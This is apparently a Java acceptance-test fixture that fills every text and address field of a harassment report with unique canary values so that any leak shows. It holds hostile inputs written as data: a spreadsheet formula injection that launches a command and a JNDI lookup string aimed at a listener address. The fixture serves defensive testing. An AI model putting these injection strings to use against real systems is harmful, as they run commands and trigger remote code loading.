package steward.acceptance.hostile;

import java.util.HashMap;
import java.util.List;
import java.util.Map;
import steward.acceptance.ReportFixtures;

/// People, words and secrets that occur nowhere else, one of each kind: wherever one comes out, it is plain what leaked. Around them stands what harms
/// whoever does not treat it as text.
///
/// @param listener an address that nobody may call
record Canaries(String listener) {

    static final String NAME = "Wilhelmina-Zaunkoenig";
    static final String MAIL = "zaunkoenig.4471@canary.example";
    static final String TEXT = "zaunkoenigslied-4471";
    static final String TOKEN = "zaunkoenigsschluessel-4471";

    /// All of them.
    static List<String> all() {
        return List.of(NAME, MAIL, TEXT, TOKEN);
    }

    /// Words that are only text, whatever they look like.
    String text() {
        return String.join("\n", HostileValues.texts(listener).values())
                        .replace(HostileValues.MARK, TEXT)
                        .substring(0, 3_000)
                + NAME
                + " <"
                + MAIL
                + ">";
    }

    /// Words on one line.
    String line() {
        return "=cmd|' /C calc'!A0 ${jndi:" + listener + "} " + TEXT + " " + NAME;
    }

    /// A report in which a canary stands in every field that holds words or an address.
    Map<String, Object> report(String post, String market, String language) {
        Map<String, Object> subject = new HashMap<>(ReportFixtures.subject(post, text(), language));
        subject.put("owner", Map.of("id", MAIL, "segment", NAME));
        subject.put("url", url());
        subject.put("version", TEXT);
        subject.put("parentId", TEXT);
        subject.put("media", List.of(Map.of("kind", "image", "url", url(), "captionsUrl", url())));
        subject.put(
                "thread",
                List.of(Map.of("id", TEXT, "author", NAME, "text", line() + " " + url())));
        subject.put("attributes", Map.of(TEXT, line(), "link", url()));
        Map<String, Object> report =
                new HashMap<>(ReportFixtures.reportBy(MAIL, post, market, "harassment"));
        report.put("subject", subject);
        report.put("note", line() + " " + url() + " " + TOKEN);
        report.put("legalGround", line());
        return report;
    }

    String url() {
        return listener + "/" + TEXT + "?who=" + MAIL;
    }
}
